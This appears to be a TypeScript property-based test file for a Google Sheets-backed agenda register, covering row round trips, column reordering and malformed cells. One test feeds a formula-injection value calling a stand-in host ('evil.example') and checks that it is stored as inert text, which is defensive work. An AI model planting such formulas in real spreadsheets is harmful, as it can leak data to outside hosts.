import fc from 'fast-check';
import type { AgendaItem } from '../../src/core/agenda/item';
import { NOTIFICATION_KINDS, type NotificationRecord } from '../../src/core/agenda/notification';
import type { AgendaRecord } from '../../src/core/agenda/record';
import {
  AGENDA_HISTORY_TABLE,
  AGENDA_NOTIFICATIONS_TABLE,
  AGENDA_TABLE,
  columnsOf,
  historyOf,
  historyRow,
  notificationFromRow,
  notificationRow,
  recordFromRow,
  recordRow,
} from '../../src/core/agenda/register';
import { AGENDA_STATUSES, type AgendaStatus, type AuditEntry } from '../../src/core/agenda/status';
import { agendaItem, agendaItemFromFields, agendaRecord } from '../fixtures/agenda-records';

const wib = (s: string) => Date.parse(`${s}:00+07:00`);

/**
 * What Google Sheets hands back for a written row: a leading apostrophe (which forces text) is
 * not part of the value read, and Dates come back as Dates.
 */
const throughSheet = (row: readonly unknown[]): unknown[] =>
  row.map((cell) => {
    if (typeof cell === 'string') return cell.startsWith("'") ? cell.slice(1) : cell;
    if (cell instanceof Date) return new Date(cell.getTime());
    return cell;
  });

const HEADER = AGENDA_TABLE.headers;
const col = columnsOf(HEADER);

/** A confirmed item with every field filled, so that a round trip covers every column. */
const makeItem = (over: Partial<AgendaItem> = {}): AgendaItem =>
  agendaItem({
    id: 'AG-2026-0042',
    title: 'Rapat Koordinasi Stunting',
    start: wib('2026-11-26T09:00'),
    end: wib('2026-11-26T11:00'),
    leaders: ['Bupati', 'Sekretaris Daerah'],
    invitation: { number: '005/123/DINKES/2026', date: '2026-11-20' },
    documents: ['https://docs.google.com/document/d/abc'],
    guests: ['Camat Sungailiat', 'kapus@bangka.go.id'],
    notes: 'Bahan paparan dibawa oleh Kabid Kesmas.',
    status: 'DIKONFIRMASI',
    ...over,
  });

const makeRecord = (over: Partial<AgendaRecord> = {}): AgendaRecord =>
  agendaRecord(makeItem(), {
    eventId: 'evt_abc123',
    requestedBy: 'operator@bangka.go.id',
    requestedAt: wib('2026-11-20T10:15'),
    statusSince: wib('2026-11-23T14:00'),
    reached: { DIAJUKAN: wib('2026-11-20T10:15'), DIKONFIRMASI: wib('2026-11-23T14:00') },
    checklist: [
      {
        item: 'Lokasi dikonfirmasi',
        done: true,
        by: 'op@bangka.go.id',
        at: wib('2026-11-24T08:00'),
      },
      { item: 'Transportasi siap', done: false, by: '', at: 0 },
    ],
    updatedAt: wib('2026-11-24T08:00'),
    ...over,
  });

const readBack = (record: AgendaRecord) => recordFromRow(throughSheet(recordRow(record)), col);

// ---- arbitraries: values as the request form and the workflow produce them --------------

/** Trimmed text of any Unicode (the form trims every field), possibly multi-line, maybe long. */
const text = fc
  .oneof(
    { weight: 5, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
    { weight: 1, arbitrary: fc.string({ unit: 'grapheme', minLength: 200, maxLength: 600 }) },
    // What Sheets would otherwise turn into a formula, a number, a date or a boolean.
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        '=SUM(A1:A9)',
        '+62812',
        '-5',
        '@x',
        '0812',
        "'kutip",
        '2026-11-20',
        'TRUE',
        '1e3',
      ),
    },
  )
  .map((s) => s.trim());
const word = text.filter((s) => s !== '');
/** A list element: one trimmed, non-empty line. */
const line = word.filter((s) => !/[\r\n]/.test(s));
const list = fc.array(line, { maxLength: 4 });
const moment = fc.integer({ min: wib('2024-01-01T00:00'), max: wib('2030-12-31T00:00') });
const momentOrNever = fc.oneof(fc.constant(0), moment);

const itemArb: fc.Arbitrary<AgendaItem> = fc
  .record({
    id: line,
    title: text,
    activityType: text,
    start: moment,
    minutes: fc.integer({ min: 1, max: 3 * 24 * 60 }),
    venue: text,
    desa: text,
    kecamatan: text,
    unit: text,
    picName: text,
    picPhone: fc.stringMatching(/^\+?0?[0-9]{6,13}$/),
    picEmail: fc.emailAddress().map((e) => e.toLowerCase()),
    leaders: list,
    invitation: fc.option(fc.record({ number: line, date: text })),
    documents: list,
    guests: list,
    notes: text,
    status: fc.constantFrom(...AGENDA_STATUSES),
    reason: fc.option(word),
    delegate: fc.option(line),
  })
  .map(agendaItemFromFields);

const recordArb: fc.Arbitrary<AgendaRecord> = fc.record({
  item: itemArb,
  eventId: text,
  requestedBy: text,
  requestedAt: momentOrNever,
  statusSince: momentOrNever,
  reached: fc.dictionary(fc.constantFrom(...AGENDA_STATUSES), moment, { maxKeys: 5 }),
  clashes: list,
  firstClashAt: momentOrNever,
  clashResolvedAt: momentOrNever,
  checklist: fc.array(
    fc.record({
      item: fc.string({ unit: 'binary' }),
      done: fc.boolean(),
      by: text,
      at: momentOrNever,
    }),
    { maxLength: 5 },
  ),
  updatedAt: momentOrNever,
});

/** A permutation of 0..n-1. */
const permutation = (n: number) =>
  fc.shuffledSubarray(
    Array.from({ length: n }, (_, i) => i),
    { minLength: n, maxLength: n },
  );

// ---- tests ------------------------------------------------------------------------------

describe('register rows', () => {
  it('reads back every record written, after Sheets strips the apostrophes', () => {
    fc.assert(
      fc.property(recordArb, (record) => {
        expect(readBack(record)).toEqual(record);
      }),
      { numRuns: 200 },
    );
  });

  it('reads the same record whatever order the admin put the columns in', () => {
    fc.assert(
      fc.property(recordArb, permutation(HEADER.length), (record, order) => {
        const row = throughSheet(recordRow(record));
        const header = order.map((i) => HEADER[i]);
        const shuffled = order.map((i) => row[i]);
        expect(recordFromRow(shuffled, columnsOf(header))).toEqual(record);
      }),
      { numRuns: 100 },
    );
  });

  it('has one cell per header column', () => {
    expect(recordRow(makeRecord())).toHaveLength(HEADER.length);
    expect(
      historyRow('A', { at: new Date(0), who: '', from: 'DIAJUKAN', to: 'DITOLAK', note: '' }),
    ).toHaveLength(AGENDA_HISTORY_TABLE.headers.length);
    expect(
      notificationRow({
        key: 'k',
        agendaId: 'A',
        kind: 'SLA',
        dueAt: 1,
        sentAt: 1,
        recipients: [],
        note: '',
      }),
    ).toHaveLength(AGENDA_NOTIFICATIONS_TABLE.headers.length);
  });

  it('stores user text literally: no formula runs and the phone keeps its leading 0', () => {
    const record = makeRecord({
      item: makeItem({
        title: '=IMPORTXML("http://evil.example","//a")',
        pic: { name: '@admin', phone: '081234567890', email: 'siti@bangka.go.id' },
        notes: '+62 812 dipakai untuk WA',
      }),
    });
    const row = recordRow(record);
    expect(row[col('Judul')]).toBe('\'=IMPORTXML("http://evil.example","//a")');
    expect(row[col('Penanggung Jawab')]).toBe("'@admin");
    expect(row[col('Telepon')]).toBe("'081234567890");
    expect(row[col('Catatan')]).toBe("'+62 812 dipakai untuk WA");
    expect(readBack(record)?.item.pic.phone).toBe('081234567890');
  });

  it('writes times as Dates for the sheet to show, and leaves "never" blank', () => {
    const row = recordRow(makeRecord({ firstClashAt: 0, clashResolvedAt: 0 }));
    expect(row[col('Mulai')]).toEqual(new Date('2026-11-26T02:00:00Z'));
    expect(row[col('Bentrok Pertama')]).toBe('');
    expect(row[col('Bentrok Selesai')]).toBe('');
  });

  it('reads an invitation date that Sheets turned into a date cell as that WIB day', () => {
    const row = throughSheet(recordRow(makeRecord()));
    // Midnight WIB on 20 November is still 19 November in UTC.
    row[col('Tanggal Surat')] = new Date(wib('2026-11-20T00:00'));
    expect(recordFromRow(row, col)?.item.invitation).toEqual({
      number: '005/123/DINKES/2026',
      date: '2026-11-20',
    });
  });

  it('matches headers ignoring case and spaces, and survives an added or a deleted column', () => {
    const record = makeRecord();
    const row = throughSheet(recordRow(record));
    const header = HEADER.map((h) => (h === 'Judul' ? '  JUDUL ' : h));
    const without = (name: string) => HEADER.indexOf(name);
    // The admin deleted "Ceklis" and appended a column of their own.
    const keep = HEADER.map((_, i) => i).filter((i) => i !== without('Ceklis'));
    const read = recordFromRow(
      [...keep.map((i) => row[i]), 'catatan admin'],
      columnsOf([...keep.map((i) => header[i]), 'Keterangan Admin']),
    );
    expect(read).toEqual({ ...record, checklist: [] });
  });

  it('reads a hand-edited, broken JSON cell as empty instead of failing the whole register', () => {
    const row = throughSheet(recordRow(makeRecord()));
    row[col('Tahapan')] = '{DIAJUKAN: kemarin';
    row[col('Ceklis')] = 'sudah semua';
    const read = recordFromRow(row, col);
    expect(read?.reached).toEqual({});
    expect(read?.checklist).toEqual([]);
    expect(read?.item.title).toBe('Rapat Koordinasi Stunting');
  });

  it('skips blank rows and rows without an id or a known status', () => {
    expect(
      recordFromRow(
        HEADER.map(() => ''),
        col,
      ),
    ).toBeNull();
    const row = throughSheet(recordRow(makeRecord()));
    expect(
      recordFromRow(
        row.map((c, i) => (i === col('ID') ? ' ' : c)),
        col,
      ),
    ).toBeNull();
    expect(
      recordFromRow(
        row.map((c, i) => (i === col('Status') ? 'SELESAI' : c)),
        col,
      ),
    ).toBeNull();
  });

  it('reads the PIC email in lower case and list cells typed with blank lines or CRLF', () => {
    const row = throughSheet(recordRow(makeRecord()));
    row[col('Email Penanggung Jawab')] = ' Siti@Bangka.go.id ';
    row[col('Tamu')] = 'Camat Sungailiat\r\n\r\n  Lurah Parit Padang  \n';
    const item = recordFromRow(row, col)?.item;
    expect(item?.pic.email).toBe('siti@bangka.go.id');
    expect(item?.guests).toEqual(['Camat Sungailiat', 'Lurah Parit Padang']);
  });
});

describe('history rows', () => {
  it("gives one item's history oldest first, whatever order the rows were appended in", () => {
    const entry = (at: string, from: AgendaStatus, to: AgendaStatus, note = ''): AuditEntry => ({
      at: new Date(wib(at)),
      who: 'koordinator@bangka.go.id',
      from,
      to,
      note,
    });
    const rows = [
      historyRow('A', entry('2026-11-23T14:00', 'DIJADWALKAN', 'DIKONFIRMASI')),
      historyRow('B', entry('2026-11-21T09:00', 'DIAJUKAN', 'DITOLAK', 'Alasan: ganda')),
      historyRow('A', entry('2026-11-20T11:00', 'DIAJUKAN', 'DIVERIFIKASI', '=catatan')),
      historyRow('A', entry('2026-11-21T08:00', 'DIVERIFIKASI', 'DIJADWALKAN')),
    ].map(throughSheet);
    expect(historyOf(rows, 'A')).toEqual([
      {
        at: wib('2026-11-20T11:00'),
        who: 'koordinator@bangka.go.id',
        from: 'DIAJUKAN',
        to: 'DIVERIFIKASI',
        note: '=catatan',
      },
      {
        at: wib('2026-11-21T08:00'),
        who: 'koordinator@bangka.go.id',
        from: 'DIVERIFIKASI',
        to: 'DIJADWALKAN',
        note: '',
      },
      {
        at: wib('2026-11-23T14:00'),
        who: 'koordinator@bangka.go.id',
        from: 'DIJADWALKAN',
        to: 'DIKONFIRMASI',
        note: '',
      },
    ]);
    expect(historyOf(rows, 'C')).toEqual([]);
  });
});

describe('notification rows', () => {
  const notificationArb: fc.Arbitrary<NotificationRecord> = fc.record({
    key: line,
    agendaId: text,
    kind: fc.constantFrom(...NOTIFICATION_KINDS),
    dueAt: momentOrNever,
    sentAt: momentOrNever,
    recipients: fc.array(fc.emailAddress(), { maxLength: 4 }),
    note: text,
  });

  it('reads back every logged notification', () => {
    fc.assert(
      fc.property(notificationArb, (n) => {
        expect(notificationFromRow(throughSheet(notificationRow(n)))).toEqual(n);
      }),
    );
  });

  it('skips blank rows and unknown kinds', () => {
    expect(notificationFromRow(['', '', '', '', '', '', ''])).toBeNull();
    expect(notificationFromRow(['k', 'A', 'UNDANGAN', '', '', '', ''])).toBeNull();
  });
});
